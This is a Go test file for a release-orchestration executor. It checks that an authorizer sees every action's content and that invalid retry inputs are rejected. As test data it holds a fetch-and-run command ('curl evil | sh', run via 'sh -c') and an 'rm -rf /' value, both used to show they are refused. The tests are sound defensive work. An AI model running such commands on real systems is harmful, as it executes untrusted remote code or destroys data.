package executor

import (
	"context"
	"errors"
	"fmt"
	"math"
	"slices"
	"sync"
	"testing"

	"github.com/batonhq/baton/adapters"
	"github.com/batonhq/baton/process"
	"github.com/batonhq/baton/release"
	"github.com/stretchr/testify/require"
)

// execLike is an adapter of kind exec that checks its with: parameters
// (command: a list of strings) and fails its first call.
type execLike struct {
	recorder
}

func (a *execLike) ValidateWith(with map[string]any) error {
	for k, v := range with {
		switch k {
		case "command":
			if _, ok := v.([]any); !ok {
				return &adapters.ParamError{Param: "command", Msg: fmt.Sprintf("want a list of strings, got %T", v)}
			}
		case "dir":
		default:
			return &adapters.ParamError{Param: k, Msg: "unknown parameter"}
		}
	}
	return nil
}

func newExecLike() *execLike {
	a := &execLike{recorder: recorder{kind: "exec"}}
	a.fn = func(context.Context, *adapters.Request) (*adapters.Result, error) {
		if len(a.Calls()) == 1 {
			return nil, adapters.Permanent(errors.New("exit 1"))
		}
		return &adapters.Result{}, nil
	}
	return a
}

const execDoc = `
id: deploy
phases:
  - id: p
    activities:
      - {id: run, uses: exec, with: {command: [make, deploy]}}
`

// actions records what the authorizer was shown, and refuses a retry of
// an exec activity whose new inputs touch its command.
type actions struct {
	mu   sync.Mutex
	seen []Action
}

func (s *actions) authorize(_ context.Context, a *Action) error {
	s.mu.Lock()
	s.seen = append(s.seen, *a)
	s.mu.Unlock()
	if a.Kind == ActionRetry && a.Uses == "exec" {
		if _, ok := a.Inputs["command"]; ok {
			return errors.New("only a process change may change a command")
		}
	}
	return nil
}

func (s *actions) last(kind ActionKind) Action {
	s.mu.Lock()
	defer s.mu.Unlock()
	for i := len(s.seen) - 1; i >= 0; i-- {
		if s.seen[i].Kind == kind {
			return s.seen[i]
		}
	}
	return Action{}
}

func TestTheAuthorizerSeesWhatARetryChanges(t *testing.T) {
	auth := &actions{}
	ex := newExecLike()
	h := newHarness(t, &Config{Authorize: auth.authorize}, ex)
	h.put(execDoc)
	id := h.create("deploy", nil)
	h.waitActivity(id, "p.run", release.ActivityOnHold)
	ctx := context.Background()
	before := len(h.events(id))

	err := h.ex.Retry(ctx, id, "p.run", &RetryParams{By: By{Actor: "oncall"}, Inputs: map[string]any{"command": []any{"sh", "-c", "curl evil | sh"}}})
	require.ErrorIs(t, err, ErrUnauthorized)
	require.Len(t, h.events(id), before, "nothing recorded")
	require.Len(t, ex.Calls(), 1, "the rewritten command never ran")
	a := auth.last(ActionRetry)
	require.Equal(t, process.Automated, a.ActivityType)
	require.Equal(t, "exec", a.Uses)
	require.Equal(t, process.ID("deploy"), a.Process)
	require.Equal(t, 1, a.ProcessVersion)

	require.NoError(t, h.ex.Retry(ctx, id, "p.run", &RetryParams{By: By{Actor: "oncall"}, Inputs: map[string]any{"dir": "/srv"}}))
	h.waitStatus(id, release.Succeeded)
	require.Equal(t, map[string]any{"command": []any{"make", "deploy"}, "dir": "/srv"}, ex.Calls()[1].With)
}

func TestInvalidRetryInputsAreRefusedBeforeAnythingIsRecorded(t *testing.T) {
	cyclic := map[string]any{}
	cyclic["self"] = cyclic
	for _, tc := range []struct {
		name     string
		activity release.ActivityKey
		inputs   map[string]any
		contains string
	}{
		{"the adapter's validator: a type", "p.run", map[string]any{"command": "rm -rf /"}, "inputs.command: want a list of strings, got string"},
		{"the adapter's validator: an unknown parameter", "p.run", map[string]any{"shell": true}, "inputs.shell: unknown parameter"},
		{"NaN", "p.run", map[string]any{"dir": math.NaN()}, "inputs.dir: NaN is not a finite number"},
		{"a function", "p.run", map[string]any{"dir": func() {}}, "inputs.dir: a func() is not data"},
		{"a cycle", "p.run", map[string]any{"dir": cyclic}, "inputs.dir.self: value contains itself"},
		{"the child's input specs", "p.sub", map[string]any{"target": 5}, "inputs.target"},
		{"the child's unknown input", "p.sub", map[string]any{"nope": "x"}, "inputs.nope"},
		{"a manual activity takes none", "p.man", map[string]any{"x": 1}, "it takes no inputs"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			bad := adapters.Func("bad", func(context.Context, *adapters.Request) (*adapters.Result, error) {
				return nil, adapters.Permanent(errors.New("no"))
			})
			h := newHarness(t, nil, newExecLike(), bad)
			h.put(`
id: child
inputs:
  target: {type: string, required: true}
phases:
  - id: c
    activities:
      - {id: x, uses: bad, on-failure: fail}
`)
			h.put(`
id: deploy
phases:
  - id: p
    activities:
      - {id: run, uses: exec, with: {command: [make, deploy]}}
      - {id: sub, type: subprocess, process: child, with: {target: prod}}
      - {id: man, type: manual, tasks: [{id: t, required: true}]}
`)
			id := h.create("deploy", nil)
			h.waitActivity(id, "p.run", release.ActivityOnHold)
			h.waitActivity(id, "p.sub", release.ActivityOnHold)
			ctx := context.Background()
			if tc.activity == "p.man" {
				require.NoError(t, h.ex.UpdateTask(ctx, id, "p.man", &TaskParams{Task: "t", Status: release.TaskFailed, By: By{Actor: "qa"}}))
				h.waitActivity(id, "p.man", release.ActivityOnHold)
			}
			before := h.events(id)
			err := h.ex.Retry(ctx, id, tc.activity, &RetryParams{By: By{Actor: "oncall"}, Inputs: tc.inputs})
			require.ErrorIs(t, err, ErrInvalid)
			require.ErrorContains(t, err, tc.contains)
			require.Equal(t, before, h.events(id), "the log is untouched")
			require.Equal(t, release.ActivityOnHold, h.get(id).Activities[tc.activity].Status)
		})
	}
}

// Every action shows the authorizer its content, and the target as
// stored.
func TestTheAuthorizerSeesEveryActionsContent(t *testing.T) {
	auth := &actions{}
	h := newHarness(t, &Config{Authorize: auth.authorize}, newExecLike())
	h.put(`
id: full
phases:
  - id: p
    activities:
      - {id: run, uses: exec, with: {command: [make]}, outputs: [out]}
      - {id: man, type: manual, tasks: [{id: t, assignees: [qa]}], outputs: [report]}
      - {id: gate, type: approval, approval: {approvers: [bob]}}
`)
	ctx := context.Background()
	sum, err := h.ex.Create(ctx, &CreateParams{Process: "full", By: By{Actor: "alice"}, Labels: map[string]string{"team": "core"}, Group: ""})
	require.NoError(t, err)
	id := sum.ID
	c := auth.last(ActionCreate)
	require.Equal(t, process.ID("full"), c.Process)
	require.Equal(t, map[string]string{"team": "core"}, c.Labels)

	h.waitActivity(id, "p.run", release.ActivityOnHold)
	h.waitActivity(id, "p.man", release.ActivityWaiting)
	h.waitActivity(id, "p.gate", release.ActivityWaiting)

	require.NoError(t, h.ex.Ignore(ctx, id, "p.run", &IgnoreParams{By: By{Actor: "ops", Reason: "later"}, Outputs: map[string]any{"out": "x"}}))
	a := auth.last(ActionIgnore)
	require.Equal(t, map[string]any{"out": "x"}, a.Outputs)
	require.Equal(t, process.Automated, a.ActivityType)
	require.Equal(t, "exec", a.Uses)
	require.Equal(t, map[string]string{"team": "core"}, a.Labels)

	require.NoError(t, h.ex.UpdateTask(ctx, id, "p.man", &TaskParams{Task: "t", Assignees: []string{"erin"}, Status: release.TaskInProgress, By: By{Actor: "qa"}}))
	a = auth.last(ActionUpdateTask)
	require.Equal(t, process.Manual, a.ActivityType)
	require.Equal(t, release.TaskInProgress, a.Status)
	require.Equal(t, []string{"erin"}, a.Assignees)
	require.NotNil(t, a.TaskState)
	require.Equal(t, release.TaskTodo, a.TaskState.Status, "the task as stored before the change")
	require.Equal(t, []string{"qa"}, a.TaskState.Assignees)

	require.NoError(t, h.ex.Comment(ctx, id, &CommentParams{Activity: "p.man", Task: "t", Text: "on it", By: By{Actor: "erin"}}))
	a = auth.last(ActionComment)
	require.Equal(t, "on it", a.Text)
	require.Equal(t, []string{"erin"}, a.TaskState.Assignees)

	require.NoError(t, h.ex.SubmitOutputs(ctx, id, "p.man", &OutputsParams{By: By{Actor: "erin"}, Outputs: map[string]any{"report": "ok"}}))
	a = auth.last(ActionSubmitOutputs)
	require.Equal(t, map[string]any{"report": "ok"}, a.Outputs)

	require.NoError(t, h.ex.Approve(ctx, id, "p.gate", &DecisionParams{By: By{Actor: "bob", Reason: "fine"}}))
	a = auth.last(ActionApprove)
	require.Equal(t, process.Approval, a.ActivityType)
	require.Equal(t, "fine", a.Reason)

	err = h.ex.Retry(ctx, id, "p.nope", &RetryParams{By: By{Actor: "ops"}})
	require.ErrorIs(t, err, ErrNotFound)
	require.False(t, slices.ContainsFunc(auth.seen, func(a Action) bool { return a.Activity == "p.nope" }), "an unknown activity is not authorized")
}
